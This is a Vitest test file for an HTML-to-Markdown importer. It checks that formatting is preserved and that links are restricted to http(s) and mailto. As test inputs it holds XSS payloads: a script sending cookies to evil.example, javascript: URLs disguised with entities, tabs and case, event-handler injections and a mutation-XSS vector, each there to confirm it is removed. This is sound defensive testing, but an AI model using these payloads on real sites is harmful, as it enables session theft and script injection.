import { describe, expect, it } from "vitest";
import { renderMarkdown } from "../../../shared/markdown.ts";
import { htmlToMarkdown, importableUrl } from "./html-md.ts";

describe("htmlToMarkdown", () => {
  it("keeps structure: headings, paragraphs, emphasis, lists with one nested level, tables, code, quotes", () => {
    const { markdown, warnings } = htmlToMarkdown(
      `<h2>Before you start</h2><p>Pick <strong>20</strong> to <em>100</em> photos &amp; <code>albums</code>.</p>
       <ol><li>Open <b>Settings</b></li><li>Choose<ul><li>Prints</li><li>Books<ul><li>Deep</li></ul></li></ul></li></ol>
       <table><thead><tr><th>Plan</th><th>Storage</th></tr></thead><tbody><tr><td>Free</td><td>15 GB</td></tr></tbody></table>
       <pre>line 1
  line 2</pre><blockquote><p>Quoted</p></blockquote><p>One<br>Two</p>`,
    );
    expect(markdown).toBe(
      [
        "## Before you start",
        "Pick **20** to *100* photos & `albums`.",
        "1. Open **Settings**\n2. Choose\n  - Prints\n  - Books\n  - Deep",
        "| Plan | Storage |\n| --- | --- |\n| Free | 15 GB |",
        "```\nline 1\n  line 2\n```",
        "> Quoted",
        "One\nTwo",
      ].join("\n\n"),
    );
    expect(warnings).toEqual([]);
  });

  it("writes links only to http(s) and mailto addresses, and never carries attributes over", () => {
    const { markdown, warnings } = htmlToMarkdown(
      `<p><a href="https://lumen.example/tv" onclick="steal()" style="x">TV</a> <a href="mailto:help@lumen.example">mail</a>
       <a href="javascript:alert(1)">js</a> <a href=" jav&#x09;ascript:alert(2)">tab</a> <a href="JaVaScRiPt&colon;x">colon</a>
       <a href="data:text/html,<script>alert(1)</script>">data</a> <a href="/hc/en-us/articles/1">relative</a>
       <a href="https://x.example/a_(b)">paren</a></p>`,
    );
    expect(markdown).toBe(
      "[TV](https://lumen.example/tv) [mail](mailto:help@lumen.example) js tab colon data relative [paren](https://x.example/a_%28b%29)",
    );
    expect(markdown).not.toMatch(/onclick|style|javascript/i);
    expect(warnings).toEqual(["links that are not http(s) or mailto were reduced to their text"]);
  });

  it("drops scripts, styles, frames, forms and media with their content, and says so", () => {
    const { markdown, warnings } = htmlToMarkdown(
      `<p>Hello</p><script>document.location='https://evil.example/?'+document.cookie</script><style>p{}</style>
       <iframe src="https://evil.example"><p>inside</p></iframe><form action="/x"><input name="q"><button>Go</button></form>
       <video src="a.mp4">fallback</video><object data="x.swf"></object><img src="x.png" onerror="alert(1)" alt="A chart"><svg><script>alert(1)</script></svg>`,
    );
    expect(markdown).toBe("Hello\n\nA chart");
    expect(warnings.sort()).toEqual(
      [
        "embedded content (iframes, objects) is not imported",
        "forms are not imported",
        "images are not imported (their alt text is kept)",
        "scripts were removed",
        "video and audio are not imported",
      ].sort(),
    );
  });

  it("renders through the one sanitising path without any active content, whatever the input", () => {
    const hostile = [
      `<p onmouseover="alert(1)">x</p>`,
      `<a href="javascript:alert(1)"><img src=x onerror=alert(1)>click</a>`,
      `<scr<script>ipt>alert(1)</script>`,
      `&lt;script&gt;alert(1)&lt;/script&gt;`,
      `<p>[x](javascript:alert(1))</p>`,
      `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
      `<a href="https://ok.example/" title='"><script>alert(1)</script>'>t</a>`,
      `<!--<script>alert(1)</script>--><p>after</p>`,
    ];
    for (const h of hostile) {
      const html = renderMarkdown(htmlToMarkdown(h).markdown);
      expect(html, h).not.toMatch(/<script|<img|onerror|onmouseover|href="javascript/i);
    }
  });

  it("survives absurd nesting and unclosed tags", () => {
    const deep = `${"<div>".repeat(5000)}deep text${"</div>".repeat(10)}<p>unclosed <b>bold`;
    const { markdown } = htmlToMarkdown(deep);
    expect(markdown).toContain("deep text");
    expect(markdown).toContain("unclosed **bold**");
  });

  it("decodes entities once, so escaped markup stays text", () => {
    expect(htmlToMarkdown("<p>&lt;b&gt;not bold&lt;/b&gt; &amp;amp; &#8364;5 &euro;</p>").markdown).toBe(
      "<b>not bold</b> &amp; €5 €",
    );
  });
});

describe("importableUrl", () => {
  it("refuses schemes hidden by entities, whitespace and case", () => {
    for (const u of [
      "javascript:x",
      "&#106;avascript:x",
      "java\nscript:x",
      "vbscript:x",
      "data:x",
      "//evil.example",
      "https:/x",
    ])
      expect(importableUrl(u), u).toBeNull();
    expect(importableUrl("https://lumen.example/a b")).toBe("https://lumen.example/ab");
  });
});
